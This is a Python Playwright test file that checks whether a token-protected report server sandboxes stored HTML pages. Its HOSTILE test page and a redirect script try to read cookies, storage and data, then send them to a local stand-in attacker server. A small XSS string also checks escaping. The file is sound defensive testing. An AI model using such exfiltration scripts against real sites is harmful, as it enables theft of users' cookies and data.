"""Pages that stand in the store, in a real browser: ours work whole, a stranger's reach nothing."""

from __future__ import annotations

import importlib.util
import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import uvicorn

from harness.report import render
from harness.serve.app import application
from harness.soak.page import write_page
from tests.browsing import running

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser
GENERATOR = Path(__file__).parents[1] / "report" / "conftest.py"
TOKEN = "the-very-token"
OURS = "etcd/register/20261120T100000-aaaaaa"
THEIRS = "etcd/register/20261121T100000-bbbbbb"
TWO_FRAMES = "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
PAINTED = """() => {
  const canvas = document.getElementById("lanes");
  const copy = document.createElement("canvas");
  [copy.width, copy.height] = [canvas.width, canvas.height];
  const pen = copy.getContext("2d", { willReadFrequently: true });
  pen.drawImage(canvas, 0, 0);
  const { data } = pen.getImageData(0, 0, copy.width, copy.height);
  let sum = 0;
  for (let at = 0; at < data.length; at += 1) sum = (sum * 31 + data[at]) % 1000000007;
  return sum;
}"""


def write_run(folder: Path) -> None:
    """An invalid run of the report's own tests, with its page."""
    spec = importlib.util.spec_from_file_location("report_runs", GENERATOR)
    assert spec is not None
    assert spec.loader is not None
    generator = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(generator)
    generator.write_run(folder, count=1500)
    render(folder)


class Receiver(BaseHTTPRequestHandler):
    """A stranger's server, that notes whatever comes."""

    got: list[str]

    def do_GET(self) -> None:
        """Note it, and let everybody read the answer."""
        self.got.append(f"{self.path} {self.headers.get('cookie')} {self.headers.get('referer')}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *arguments: Any) -> None:
        """Say nothing."""


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """The address of a stranger's server, and what came to it."""
    got: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Noted", (Receiver,), {"got": got}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", got
    server.shutdown()
    server.server_close()


@pytest.fixture
def address(store: Path) -> Iterator[str]:
    """A server of the store that asks for a token."""
    listener = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(application(store, TOKEN), log_level="warning"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    server.should_exit = True
    thread.join()
    listener.close()


@pytest.fixture
def complaints() -> list[str]:
    """What the browser's console said."""
    return []


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with running() as browser:
        yield browser


@pytest.fixture
def page(
    request: pytest.FixtureRequest, browser: Browser, address: str, complaints: list[str]
) -> Iterator[Page]:
    """A page of a visitor who has entered with the token."""
    made = browser.new_page(
        color_scheme=getattr(request, "param", "light"), reduced_motion="reduce"
    )
    made.goto(f"{address}/?token={TOKEN}")
    made.on("console", lambda message: complaints.append(message.text))
    made.on("pageerror", lambda error: complaints.append(str(error)))
    yield made
    made.close()


@pytest.mark.parametrize("page", ["light", "dark"], indirect=True)
def test_our_own_report_works_whole(
    page: Any, address: str, store: Path, complaints: list[str], request: pytest.FixtureRequest
) -> None:
    write_run(store / OURS)
    page.goto(f"{address}/")
    with page.expect_navigation():
        page.click("tbody tr a")
    page.wait_for_selector("html[data-ready=yes]")
    assert page.evaluate("() => window.origin") == "null"
    assert page.inner_text("#verdict-word") == "invalid"
    page.click("[data-show-anomaly='1']")
    assert page.inner_text("#details").startswith("Anomaly 1: stale-read")
    painted = page.evaluate(PAINTED)
    page.focus("#lanes")
    page.keyboard.press("0")
    page.keyboard.press("+")
    page.evaluate(TWO_FRAMES)
    assert page.evaluate(PAINTED) != painted
    page.fill("#search", "type:fail")
    page.keyboard.press("Enter")
    page.wait_for_function("() => / of /.test(document.querySelector('#match-count').innerText)")
    page.click("#anomaly-1 table a[href^='#op-']")
    page.wait_for_function("() => location.hash.startsWith('#op-')")
    whole = page.locator("#log-lines li").count()
    page.fill("#log-filter", "lost TCP")
    page.wait_for_function(f"() => document.querySelectorAll('#log-lines li').length < {whole}")
    page.select_option("#lane-by", "process")
    page.click("nav a[href='#plots']")
    ground = page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    channels = [int(part) for part in ground.strip("rgba()").split(",")[:3]]
    is_dark = request.node.callspec.params["page"] == "dark"
    assert (max(channels) < 100) == is_dark
    assert complaints == []


HOSTILE = """<!doctype html><title>hostile</title><h1>report</h1>
<form id=f method=post action="STRANGER/form"><input name=a></form>
<img src="/style.css?img"><img src="STRANGER/img"><iframe src="/runs.json"></iframe>
<script src="STRANGER/script.js"></script><link rel=stylesheet href="STRANGER/style.css">
<script>
"use strict";
const got = {};
const trying = async (name, what) => {
  try { got[name] = String(await what()); } catch (error) { got[name] = "refused"; }
};
const text = (answer) => answer.text();
addEventListener("load", async () => {
  await trying("cookie", () => document.cookie);
  await trying("storage", () => localStorage.length);
  await trying("database", () => new Promise((done, no) => {
    const asked = indexedDB.open("x"); asked.onsuccess = done; asked.onerror = no;
  }));
  await trying("index", () => fetch("/").then(text));
  await trying("runs", () => fetch("/runs.json").then(text));
  await trying("kept", () => fetch("/runs.json", { credentials: "include" }).then(text));
  await trying("blind", () => fetch("/runs.json", { mode: "no-cors" }).then(text));
  await trying("old", () => new Promise((done, no) => {
    const asked = new XMLHttpRequest(); asked.open("GET", "/runs.json");
    asked.onload = () => done(asked.responseText); asked.onerror = no; asked.send();
  }));
  await trying("send", () => fetch("STRANGER/fetch", { mode: "no-cors" }).then(() => "sent"));
  await trying("worker", () => new Promise((done, no) => {
    const made = new Worker("/live.js"); made.onerror = no; setTimeout(done, 500);
  }));
  await trying("socket", () => new Promise((done, no) => {
    const made = new WebSocket("STRANGER".replace("http", "ws"));
    made.onopen = done; made.onerror = no;
  }));
  await trying("events", () => new Promise((done, no) => {
    const made = new EventSource("/runs.json"); made.onopen = done; made.onerror = no;
  }));
  await trying("window", () => open("/").document.body.innerText);
  await trying("frame", () => document.querySelector("iframe").contentDocument.body.innerText);
  try { navigator.sendBeacon("STRANGER/beacon", "x"); } catch (error) {}
  document.body.dataset.got = JSON.stringify(got);
  setTimeout(() => document.getElementById("f").submit(), 1000);
});
</script>"""
HARMLESS = {"refused", "", "undefined", "null"}


@pytest.mark.parametrize("place", ["report", "soak"])
def test_a_hostile_page_reaches_nothing(
    page: Any, address: str, store: Path, stranger: tuple[str, list[str]], place: str
) -> None:
    there, came = stranger
    run = store / THEIRS
    run.mkdir(parents=True)
    (run / "scenario.toml").write_text("")
    (run / "verdict.json").write_text('{"valid": false, "why": "what nobody else may know"}')
    path = f"/run/{THEIRS}/" if place == "report" else "/soak/one/"
    stored = run / "report.html" if place == "report" else store / "soaks" / "one" / "index.html"
    stored.parent.mkdir(parents=True, exist_ok=True)
    stored.write_text(HOSTILE.replace("STRANGER", there))
    page.goto(f"{address}{path}")
    page.wait_for_selector("body[data-got]")
    got = json.loads(page.evaluate("() => document.body.dataset.got"))
    assert {name: said for name, said in got.items() if said not in HARMLESS} == {}
    assert len(got) == 14
    with pytest.raises(
        Exception, match="Timeout"
    ):  # the form has been sent by then, and leads nowhere
        page.wait_for_url(f"{there}/**", timeout=3000)
    assert page.url == f"{address}{path}"
    assert came == []


def test_a_hostile_page_that_leads_away_takes_nothing_along(
    page: Any, address: str, store: Path, stranger: tuple[str, list[str]]
) -> None:
    there, came = stranger
    run = store / THEIRS
    run.mkdir(parents=True)
    (run / "scenario.toml").write_text("")
    leave = f"""<script>
      let cookie = "none";
      try {{ cookie = document.cookie; }} catch (error) {{}}
      location = "{there}/away?" + encodeURIComponent(cookie);
    </script>"""
    (run / "report.html").write_text(leave)
    page.goto(f"{address}/run/{THEIRS}/", wait_until="commit")
    page.wait_for_url(f"{there}/**")
    # Cookies know no ports, so the two servers of this test share theirs: that none came shows
    # that the browser took the page for another site's. The referrer would tell the run.
    assert [line for line in came if line.startswith("/away")] == ["/away?none None None"]


def test_a_soak_is_drawn_with_links_that_lead_to_its_reports(
    page: Any, address: str, store: Path, complaints: list[str]
) -> None:
    run = store / OURS
    run.mkdir(parents=True)
    (run / "scenario.toml").write_text("")
    (run / "report.html").write_text("<h1>the report</h1>")
    folder = store / "soaks" / "20261120T090000-soak"
    folder.mkdir(parents=True)
    found = {"rate": 0.0, "low": 0.0, "high": 0.9, "confidence": 0.95}
    result = {
        "number": 1, "seed": 5, "outcome": "violation", "exit": 1, "seconds": 1.5,
        "why": "<img src=x onerror=alert(1)>", "settle": [], "faults": {}, "operations": 7,
        "signatures": [], "run_dir": f"/elsewhere/{OURS}", "reproduce": "",
    }  # fmt: skip
    counts = {"passed": 0, "violation": 1, "unknown": 0, "infrastructure": 0}
    summary = {
        "soak": 1, "seed": 5, "scenario": {"system": "etcd"}, "runs": 1, "wanted": 1,
        "counts": counts, "half_done": [], "interrupted": False, "estimate": found,
        "sentence": "one of one", "at_most": 0.1, "runs_still_needed": None, "groups": [],
        "exit": 1, "results": [result],
    }  # fmt: skip
    (folder / "summary.json").write_text(json.dumps(summary))
    write_page(folder, summary)
    page.goto(f"{address}/")
    with page.expect_navigation():
        page.click("text=20261120T090000-soak")
    assert "1 of 1 runs broke the claim" in page.inner_text("h1")
    page.fill("#search", "no such run")
    page.wait_for_selector("tbody tr", state="hidden")
    page.fill("#search", "")
    with page.expect_navigation():
        page.click("text=open")
    assert page.inner_text("h1") == "the report"
    assert complaints == []
